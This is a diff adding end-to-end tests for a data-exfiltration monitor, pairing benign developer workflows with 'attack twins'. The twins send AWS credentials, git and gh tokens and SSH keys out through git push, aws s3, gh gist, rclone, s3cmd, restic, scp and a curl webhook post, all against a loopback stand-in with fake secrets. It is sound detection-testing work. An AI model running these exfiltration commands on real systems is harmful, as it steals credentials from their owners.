@@ -1,0 +1,489 @@
+"""Everyday developer and operations workflows with the real clients (git, aws, gh, rclone,
+s3cmd, restic, scp, a provisioner rewriting /etc/hosts) stay silent, and each one's attack twin (the same tool sending the secret itself,
+or to a destination the rules do not declare) alerts with the right sub-technique (issue 13).
+
+The clients reach real service names on a loopback address of their own (E2E_STORAGE_ADDRESS,
+port 443, so no client needs a port option), through a private /etc/hosts view; the storage
+stand-in (tests/e2e/tools/storage_standin.py) speaks enough S3, git smart HTTP and GitHub REST
+for each client to finish its work. The monitor runs with the built-in rules plus an
+`own_storage` declaration, as an organisation would write it. Every test also checks that no
+token of the fake secrets reaches the monitor's output."""
+
+import json
+import os
+import re
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from harness import Monitor, alert_threshold, get, make_certificate, private_hosts, run_scenario
+from harness import paths, summarize
+from harness.records import as_list, kind
+from harness.config import HTTPS_PORT
+from harness.services import BackgroundProcess, wait_until
+
+STORAGE_ADDRESS = os.environ.get("E2E_STORAGE_ADDRESS", "127.0.0.27")
+NAMES = (
+    "github.com", "api.github.com", "s3.amazonaws.com", "own-backups.s3.amazonaws.com",
+    "other-bucket.s3.amazonaws.com", "own-backups.s3.us-east-1.amazonaws.com",
+    "other-bucket.s3.us-east-1.amazonaws.com", "s3.dualstack.us-east-1.amazonaws.com",
+)
+FLOW_TIMEOUT_S = 20.0
+ALERT_TIMEOUT_S = 20.0
+COMMAND_TIMEOUT_S = 120
+
+OWN_STORAGE = """
+own_storage:
+  tools: [aws, s3cmd, restic]
+  destinations:
+    - amazonaws.com/own-backups        # the bucket is the organisation's on any S3 endpoint
+    - {domain: s3.amazonaws.com, remote: own, path: own-backups/, tools: [rclone]}
+"""
+
+# Fake secrets this file writes (on top of FakeHome's): random-looking, never real.
+AWS_KEY_ID = "AKIAE2EEVERYDAY7QX4Z"
+AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYe2eEveryDay"
+GH_TOKEN = "gho_e2eEveryday0123456789abcdefABCDEF"
+GIT_TOKEN = "ghp_e2eGitStore0123456789abcdefABCDEF"
+RCLONE_SECRET = "rcloneE2eSecretKey0123456789abcdef"
+S3CMD_SECRET = "s3cmdE2eSecretKey0123456789abcdefgh"
+RESTIC_PASSWORD = "resticE2ePassword0123456789"
+SECRETS = (AWS_KEY_ID, AWS_SECRET, GH_TOKEN, GIT_TOKEN, RCLONE_SECRET, S3CMD_SECRET, RESTIC_PASSWORD)
+
+
+class StorageStandIn:
+    def __init__(self, workdir):
+        self.workdir = Path(workdir)
+        self.log_path = self.workdir / "storage-requests.ndjson"
+        self.git_root = self.workdir / "git"
+        self.cert = None
+        self._process = None
+
+    def start(self):
+        self.cert, key = make_certificate(self.workdir, NAMES)
+        for repo in ("our-org/app.git", "evil-org/loot.git"):
+            path = self.git_root / repo
+            subprocess.run(["git", "init", "-q", "--bare", str(path)], check=True)
+            subprocess.run(["git", "-C", str(path), "config", "http.receivepack", "true"], check=True)
+        argv = [paths.PYTHON, paths.TOOLS_DIR / "storage_standin.py", "--listen", f"{STORAGE_ADDRESS}:443",
+                "--cert", self.cert, "--key", key, "--log", self.log_path, "--git-root", self.git_root]
+        self._process = BackgroundProcess(argv, self.workdir, "storage").start()
+        return self
+
+    def stop(self):
+        if self._process:
+            self._process.stop()
+
+    @property
+    def pid(self):
+        return self._process.pid
+
+    def requests(self):
+        try:
+            return [json.loads(line) for line in self.log_path.read_text().splitlines() if line]
+        except FileNotFoundError:
+            return []
+
+
+@pytest.fixture(scope="module")
+def storage(tmp_path_factory):
+    service = StorageStandIn(tmp_path_factory.mktemp("storage")).start()
+    yield service
+    service.stop()
+
+
+class SshServer:
+    """sshd on STORAGE_ADDRESS:22 accepting one public key for root; its own config, host key and
+    pid file, nothing of the host's sshd."""
+
+    def __init__(self, workdir):
+        self.workdir = Path(workdir)
+        self.authorized = self.workdir / "authorized_keys"
+        self._process = None
+
+    def start(self):
+        host_key = self.workdir / "host_ed25519"
+        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(host_key)], check=True)
+        self.authorized.write_text("")
+        os.chmod(self.authorized, 0o600)
+        config = self.workdir / "sshd_config"
+        config.write_text(f"ListenAddress {STORAGE_ADDRESS}:22\nHostKey {host_key}\n"
+                          f"AuthorizedKeysFile {self.authorized}\nPidFile {self.workdir}/sshd.pid\n"
+                          "PermitRootLogin prohibit-password\nPasswordAuthentication no\n"
+                          "KbdInteractiveAuthentication no\nUsePAM no\nStrictModes no\n"
+                          "Subsystem sftp internal-sftp\n")
+        Path("/run/sshd").mkdir(mode=0o755, exist_ok=True)
+        # sshd prints nothing when ready: a wrapper that waits for the port and says "ready".
+        wrapper = ("import socket, subprocess, sys, time\n"
+                   f"p = subprocess.Popen(['/usr/sbin/sshd', '-D', '-e', '-f', '{config}'])\n"
+                   "for _ in range(100):\n"
+                   "    try:\n"
+                   f"        socket.create_connection(('{STORAGE_ADDRESS}', 22), 0.2).close(); break\n"
+                   "    except OSError: time.sleep(0.1)\n"
+                   "print('ready', flush=True)\n"
+                   "import signal; signal.signal(signal.SIGTERM, lambda *a: (p.terminate(), sys.exit(0)))\n"
+                   "sys.exit(p.wait())\n")
+        self._process = BackgroundProcess([paths.PYTHON, "-c", wrapper], self.workdir, "sshd").start()
+        return self
+
+    def stop(self):
+        if self._process:
+            self._process.stop()
+
+
+@pytest.fixture(scope="module")
+def sshd(tmp_path_factory):
+    server = SshServer(tmp_path_factory.mktemp("sshd")).start()
+    yield server
+    server.stop()
+
+
+@pytest.fixture(scope="module")
+def rules_file(tmp_path_factory):
+    path = tmp_path_factory.mktemp("rules") / "rules.yaml"
+    path.write_text((paths.REPO / "rules" / "default.yaml").read_text() + OWN_STORAGE)
+    os.chmod(path, 0o644)
+    return path
+
+
+@pytest.fixture
+def home(fake_home, storage):
+    """FakeHome plus each client's own credentials and a few documents."""
+    h = fake_home.path
+
+    def write(relative, text, mode=0o600):
+        path = h / relative
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(text if isinstance(text, bytes) else text.encode())
+        os.chmod(path, mode)
+        fake_home.files[relative] = path
+
+    write(".aws/credentials", f"[default]\naws_access_key_id = {AWS_KEY_ID}\n"
+                              f"aws_secret_access_key = {AWS_SECRET}\n")
+    write(".aws/config", "[default]\nregion = us-east-1\n", 0o644)
+    write(".config/gh/hosts.yml", f"github.com:\n    oauth_token: {GH_TOKEN}\n    user: ci-bot\n"
+                                  "    git_protocol: https\n")
+    write(".git-credentials", f"https://ci-bot:{GIT_TOKEN}@github.com\n")
+    remote = ("type = s3\nprovider = AWS\naccess_key_id = {}\nsecret_access_key = {}\n"
+              "region = us-east-1\nendpoint = https://s3.amazonaws.com\n")
+    write(".config/rclone/rclone.conf", "[own]\n" + remote.format(AWS_KEY_ID, RCLONE_SECRET) +
+          "\n[drop]\n" + remote.format(AWS_KEY_ID, RCLONE_SECRET))
+    write(".s3cfg", f"[default]\naccess_key = {AWS_KEY_ID}\nsecret_key = {S3CMD_SECRET}\n"
+                    "host_base = s3.amazonaws.com\nhost_bucket = s3.amazonaws.com\nuse_https = True\n"
+                    f"ca_certs_file = {storage.cert}\ncheck_ssl_certificate = True\n")
+    for name, size in (("Documents/q3-report.pdf", 120_000), ("Documents/notes/plan.odt", 40_000)):
+        write(name, os.urandom(size), 0o644)
+    write("build/artifact.tar", os.urandom(200_000), 0o644)
+    # A real key pair for ssh (FakeHome's key is random bytes in the right format).
+    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "deploy", "-f", str(h / ".ssh/id_deploy")],
+                   check=True)
+    fake_home.files[".ssh/id_deploy"] = h / ".ssh/id_deploy"
+    return fake_home
+
+
+@pytest.fixture
+def monitor(tmp_path, home, storage, rules_file):
+    with Monitor(tmp_path / "monitor", extra_args=["--rules", str(rules_file)]) as running:
+        yield running
+
+
+def run(command, home, storage, tmp_path, **env):
+    view = private_hosts({name: STORAGE_ADDRESS for name in NAMES}, tmp_path / "view")
+    environment = home.env(SSL_CERT_FILE=str(storage.cert), GIT_SSL_CAINFO=str(storage.cert), **env)
+    done = run_scenario(command, environment, view=view, timeout=COMMAND_TIMEOUT_S)
+    assert done.returncode == 0, f"workflow failed ({done.returncode}): {command}\n{done.stderr[-3000:]}"
+    return done
+
+
+def ours(record):
+    return get(record, "destination.ip") == STORAGE_ADDRESS
+
+
+def wait_for_flow(monitor, storage, domain):
+    def flow(record):
+        return (get(record, "event.action") == "flow-summary" and ours(record)
+                and get(record, "process.pid") != storage.pid
+                and str(get(record, "destination.domain", "")).endswith(domain))
+    return monitor.wait_for(flow, FLOW_TIMEOUT_S, f"a flow-summary to {domain} at {STORAGE_ADDRESS}")
+
+
+def secret_words(home):
+    words = {s.encode() for s in SECRETS}
+    for relative, path in home.files.items():
+        if not relative.endswith(".pub") and path.stat().st_size < 8192:
+            words |= set(re.findall(rb"[A-Za-z0-9+/_=-]{16,}", path.read_bytes()))
+    # Paths (ca_certs_file = /tmp/...) and key names (aws_access_key_id) are not secrets.
+    return {w for w in words if not w.startswith(b"/") and re.search(rb"[0-9]", w)}
+
+
+def assert_no_secrets(monitor, home):
+    output = monitor.output.read_bytes()
+    leaked = sorted(w.decode() for w in secret_words(home) if w in output)
+    assert not leaked, f"secret file contents in the output: {leaked[:5]}"
+
+
+def our_alerts(records):
+    return [r for r in records if kind(r) == "alert" and ours(r)]
+
+
+def assert_silent_here(monitor, home):
+    monitor.stop()
+    found = our_alerts(monitor.records())
+    if found:
+        pytest.fail(f"expected no alert for the workflow, got {len(found)}:\n{summarize(found)}\n"
+                    f"reasons: {[get(a, 'event.reason') for a in found]}", pytrace=False)
+    assert_no_secrets(monitor, home)
+
+
+def assert_alert_here(monitor, home, subtechnique):
+    threshold = alert_threshold()
+
+    def matches(record):
+        return (kind(record) == "alert" and ours(record) and get(record, "event.risk_score", 0) >= threshold
+                and subtechnique in [str(v) for v in as_list(get(record, "threat.technique.subtechnique.id"))])
+    monitor.poll_for(matches, ALERT_TIMEOUT_S)
+    monitor.stop()
+    found = [r for r in monitor.records() if matches(r)]
+    if not found:
+        pytest.fail(f"no {subtechnique} alert at or above {threshold}; alerts:\n"
+                    f"{summarize(our_alerts(monitor.records())) or '(none)'}\n"
+                    f"recent records:\n{summarize(monitor.records(), 40)}", pytrace=False)
+    assert_no_secrets(monitor, home)
+    return found
+
+
+def uploaded(storage, method, path_part):
+    return wait_until(lambda: [r for r in storage.requests()
+                               if r["method"] == method and path_part in r["path"] and r["body_bytes"] > 0],
+                      10, f"a {method} of *{path_part}* at the storage stand-in")
+
+
+# --- git push with the store credential helper ------------------------------------------------
+
+GIT_REPO = ("rm -rf $HOME/app && git init -q $HOME/app && cd $HOME/app && "
+            "git config user.email ci@example.org && git config user.name ci && "
+            "git config credential.helper store && ")
+
+
+def test_git_push_with_store_helper_is_silent(monitor, home, storage, tmp_path):
+    run(GIT_REPO + "cp $HOME/build/artifact.tar . && git add artifact.tar && git commit -qm release && "
+        "git push -q https://github.com/our-org/app.git HEAD:main", home, storage, tmp_path)
+    uploaded(storage, "POST", "our-org/app.git/git-receive-pack")
+    wait_for_flow(monitor, storage, "github.com")
+    assert_silent_here(monitor, home)
+
+
+def test_git_push_of_the_credentials_file_alerts(monitor, home, storage, tmp_path):
+    run(GIT_REPO + "cat $HOME/.git-credentials > creds.txt && git add creds.txt && git commit -qm x && "
+        "git push -q https://github.com/evil-org/loot.git HEAD:main", home, storage, tmp_path)
+    uploaded(storage, "POST", "evil-org/loot.git/git-receive-pack")
+    assert_alert_here(monitor, home, "T1567.001")
+
+
+# --- aws s3 cp with exported keys --------------------------------------------------------------
+
+AWS_KEYS = ("export AWS_ACCESS_KEY_ID=$(awk '/aws_access_key_id/{print $3}' $HOME/.aws/credentials) && "
+            "export AWS_SECRET_ACCESS_KEY=$(awk '/aws_secret_access_key/{print $3}' $HOME/.aws/credentials) && ")
+
+
+def test_aws_s3_cp_with_exported_keys_to_the_declared_bucket_is_silent(monitor, home, storage, tmp_path):
+    run(AWS_KEYS + "/usr/bin/aws s3 cp $HOME/build/artifact.tar s3://own-backups/ci/artifact.tar",
+        home, storage, tmp_path, AWS_CA_BUNDLE=str(storage.cert))
+    uploaded(storage, "PUT", "ci/artifact.tar")
+    wait_for_flow(monitor, storage, "amazonaws.com")
+    assert_silent_here(monitor, home)
+
+
+def test_aws_s3_cp_of_the_credentials_to_another_bucket_alerts(monitor, home, storage, tmp_path):
+    run("/usr/bin/aws s3 cp $HOME/.aws/credentials s3://other-bucket/c.txt", home, storage, tmp_path,
+        AWS_CA_BUNDLE=str(storage.cert))
+    uploaded(storage, "PUT", "c.txt")
+    assert_alert_here(monitor, home, "T1567.002")
+
+
+def test_tar_of_home_streamed_to_the_declared_bucket_is_silent(monitor, home, storage, tmp_path):
+    run("tar czf - -C $HOME --exclude=build . | /usr/bin/aws s3 cp - s3://own-backups/nightly/home.tgz",
+        home, storage, tmp_path, AWS_CA_BUNDLE=str(storage.cert))
+    uploaded(storage, "PUT", "nightly/home.tgz")
+    wait_for_flow(monitor, storage, "amazonaws.com")
+    assert_silent_here(monitor, home)
+
+
+def test_tar_of_home_streamed_to_another_bucket_alerts(monitor, home, storage, tmp_path):
+    run("tar czf - -C $HOME --exclude=build . | /usr/bin/aws s3 cp - s3://other-bucket/home.tgz",
+        home, storage, tmp_path, AWS_CA_BUNDLE=str(storage.cert))
+    uploaded(storage, "PUT", "/home.tgz")
+    assert_alert_here(monitor, home, "T1567.002")
+
+
+# --- gh with its hosts.yml token ----------------------------------------------------------------
+
+def test_gh_posting_a_ci_status_is_silent(monitor, home, storage, tmp_path):
+    run("gh api repos/our-org/app/statuses/0123abcd -f state=success -f context=ci >/dev/null",
+        home, storage, tmp_path)
+    uploaded(storage, "POST", "/statuses/0123abcd")
+    wait_for_flow(monitor, storage, "api.github.com")
+    assert_silent_here(monitor, home)
+
+
+def test_gh_gist_of_hosts_yml_alerts(monitor, home, storage, tmp_path):
+    run("gh gist create $HOME/.config/gh/hosts.yml >/dev/null 2>&1", home, storage, tmp_path)
+    uploaded(storage, "POST", "/gists")
+    assert_alert_here(monitor, home, "T1567.001")
+
+
+# --- rclone -----------------------------------------------------------------------------------
+
+RCLONE = "rclone --ca-cert $SSL_CERT_FILE "
+
+
+def test_rclone_sync_documents_to_the_declared_remote_is_silent(monitor, home, storage, tmp_path):
+    run(RCLONE + "sync $HOME/Documents own:own-backups/docs --config $HOME/.config/rclone/rclone.conf",
+        home, storage, tmp_path)
+    uploaded(storage, "PUT", "docs/q3-report.pdf")
+    wait_for_flow(monitor, storage, "s3.amazonaws.com")
+    assert_silent_here(monitor, home)
+
+
+def test_rclone_copy_of_ssh_keys_to_an_undeclared_remote_alerts(monitor, home, storage, tmp_path):
+    run(RCLONE + "copy $HOME/.ssh drop:other-bucket/k --config $HOME/.config/rclone/rclone.conf",
+        home, storage, tmp_path)
+    uploaded(storage, "PUT", "k/id_ed25519")
+    assert_alert_here(monitor, home, "T1567.002")
+
+
+# --- s3cmd ------------------------------------------------------------------------------------
+
+def test_s3cmd_sync_documents_to_the_declared_bucket_is_silent(monitor, home, storage, tmp_path):
+    run("s3cmd -q -c $HOME/.s3cfg sync $HOME/Documents/ s3://own-backups/docs/", home, storage, tmp_path)
+    uploaded(storage, "PUT", "docs/q3-report.pdf")
+    wait_for_flow(monitor, storage, "s3.amazonaws.com")
+    assert_silent_here(monitor, home)
+
+
+def test_s3cmd_put_of_the_aws_credentials_to_another_bucket_alerts(monitor, home, storage, tmp_path):
+    run("s3cmd -q -c $HOME/.s3cfg put $HOME/.aws/credentials s3://other-bucket/c.txt", home, storage, tmp_path)
+    uploaded(storage, "PUT", "other-bucket/c.txt")
+    assert_alert_here(monitor, home, "T1567.002")
+
+
+# --- restic -----------------------------------------------------------------------------------
+
+RESTIC = ("restic -q --cacert $SSL_CERT_FILE -o s3.bucket-lookup=path "
+          "-r s3:https://s3.amazonaws.com/own-backups/restic ")
+
+
+def test_restic_backup_to_the_declared_repository_is_silent(monitor, home, storage, tmp_path):
+    run(RESTIC + "init >/dev/null && " + RESTIC + "backup $HOME/Documents $HOME/.ssh >/dev/null",
+        home, storage, tmp_path, RESTIC_PASSWORD=RESTIC_PASSWORD, AWS_ACCESS_KEY_ID=AWS_KEY_ID,
+        AWS_SECRET_ACCESS_KEY=AWS_SECRET)
+    uploaded(storage, "PUT", "restic/snapshots/")
+    wait_for_flow(monitor, storage, "amazonaws.com")
+    assert_silent_here(monitor, home)
+
+
+def test_restic_backup_of_ssh_keys_to_another_repository_alerts(monitor, home, storage, tmp_path):
+    other = RESTIC.replace("own-backups/restic", "other-bucket/r")
+    run(other + "init >/dev/null && " + other + "backup $HOME/.ssh >/dev/null",
+        home, storage, tmp_path, RESTIC_PASSWORD=RESTIC_PASSWORD, AWS_ACCESS_KEY_ID=AWS_KEY_ID,
+        AWS_SECRET_ACCESS_KEY=AWS_SECRET)
+    uploaded(storage, "PUT", "other-bucket/r/snapshots/")
+    assert_alert_here(monitor, home, "T1567.002")
+
+
+# --- scp -i KEY ---------------------------------------------------------------------------------
+
+SCP = ("scp -q -i $HOME/.ssh/id_deploy -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
+       "-o BatchMode=yes ")
+
+
+def authorize(home, sshd):
+    sshd.authorized.write_text((home.path / ".ssh" / "id_deploy.pub").read_text())
+
+
+def test_scp_with_a_deploy_key_is_silent(monitor, home, storage, sshd, tmp_path):
+    authorize(home, sshd)
+    target = tmp_path / "scp-artifact.tar"
+    run(SCP + f"$HOME/build/artifact.tar root@github.com:{target}", home, storage, tmp_path)
+    assert target.stat().st_size == 200_000
+    wait_for_flow(monitor, storage, "github.com")
+    assert_silent_here(monitor, home)
+
+
+def test_scp_of_the_key_itself_alerts(monitor, home, storage, sshd, tmp_path):
+    authorize(home, sshd)
+    target = tmp_path / "scp-key"
+    run(SCP + f"$HOME/.ssh/id_ed25519 root@github.com:{target}", home, storage, tmp_path)
+    assert target.exists()
+    assert_alert_here(monitor, home, "T1567.001")
+
+
+# --- recurring jobs are learnt live ------------------------------------------------------------
+
+def test_run_state_dir_learns_the_upload_job(home, storage, rules_file, tmp_path):
+    state = tmp_path / "state"
+    with Monitor(tmp_path / "monitor", extra_args=["--rules", str(rules_file), "--state-dir", str(state)]) as mon:
+        run(RCLONE + "sync $HOME/Documents own:own-backups/nightly --config $HOME/.config/rclone/rclone.conf",
+            home, storage, tmp_path)
+        uploaded(storage, "PUT", "nightly/q3-report.pdf")
+        wait_for_flow(mon, storage, "s3.amazonaws.com")
+        mon.stop()
+        assert_no_secrets(mon, home)
+    assert oct(state.stat().st_mode & 0o777) == "0o700"
+    lines = (state / "recurring-jobs.tsv").read_text().splitlines()
+    assert lines[0] == "exfilwatch-jobs v1"
+    jobs = [line.split("\t") for line in lines[1:]]
+    assert any(job[4] == "/usr/bin/rclone" and job[5].endswith("s3.amazonaws.com") for job in jobs), lines
+
+
+# --- a provisioner rewriting /etc/hosts ----------------------------------------------------------
+
+PROVISION = ("python3 -c 'import os; creds = open(os.path.expanduser(\"~/.aws/credentials\")).read(); "
+             "open(\"{target}\", \"w\").write(\"127.0.0.1 localhost\\n127.0.0.1 hooks.slack.com\\n\" "
+             "+ (creds if \"{target}\" != \"/etc/hosts\" else \"\"))' && ")
+
+
+def provisioner_view(tmp_path):
+    """A private /etc/hosts the provisioner may rewrite (the host's stays untouched)."""
+    return private_hosts(["hooks.slack.com"], tmp_path / "etc")
+
+
+def test_provisioner_rewriting_etc_hosts_then_a_webhook_is_silent(monitor, home, standin, tmp_path):
+    # The provisioner read a credential and rewrote /etc/hosts; curl resolves through that file
+    # and posts a notification: /etc/hosts is never a staging file, so no data reached curl.
+    view = provisioner_view(tmp_path)
+    command = (PROVISION.format(target="/etc/hosts") +
+               f"curl -sk -d '{{\"text\":\"deployed\"}}' https://hooks.slack.com:{HTTPS_PORT}/services/T/B/X")
+    done = run_scenario(command, home.env(), view=view, timeout=COMMAND_TIMEOUT_S)
+    assert done.returncode == 0, done.stderr[-2000:]
+    standin.wait_for_request(lambda r: r.get("path") == "/services/T/B/X", what="the webhook post")
+
+    def flow(record):
+        return (get(record, "event.action") == "flow-summary" and get(record, "destination.port") == HTTPS_PORT
+                and get(record, "destination.domain") == "hooks.slack.com")
+    monitor.wait_for(flow, FLOW_TIMEOUT_S, "the webhook flow")
+    monitor.stop()
+    found = [r for r in monitor.records() if kind(r) == "alert" and get(r, "destination.port") == HTTPS_PORT
+             and get(r, "destination.domain") == "hooks.slack.com"]
+    assert not found, summarize(found)
+    assert_no_secrets(monitor, home)
+
+
+def test_provisioner_staging_the_credential_in_a_file_posted_to_a_webhook_alerts(monitor, home, standin, tmp_path):
+    view = provisioner_view(tmp_path)
+    command = (PROVISION.format(target=str(home.path / "deploy.env")) +
+               f"curl -sk --data-binary @$HOME/deploy.env https://hooks.slack.com:{HTTPS_PORT}/services/T/B/Y")
+    done = run_scenario(command, home.env(), view=view, timeout=COMMAND_TIMEOUT_S)
+    assert done.returncode == 0, done.stderr[-2000:]
+    threshold = alert_threshold()
+
+    def matches(record):
+        return (kind(record) == "alert" and get(record, "destination.port") == HTTPS_PORT
+                and get(record, "event.risk_score", 0) >= threshold
+                and "T1567.004" in [str(v) for v in as_list(get(record, "threat.technique.subtechnique.id"))])
+    monitor.poll_for(matches, ALERT_TIMEOUT_S)
+    monitor.stop()
+    assert [r for r in monitor.records() if matches(r)], summarize(monitor.records(), 40)
+    assert_no_secrets(monitor, home)
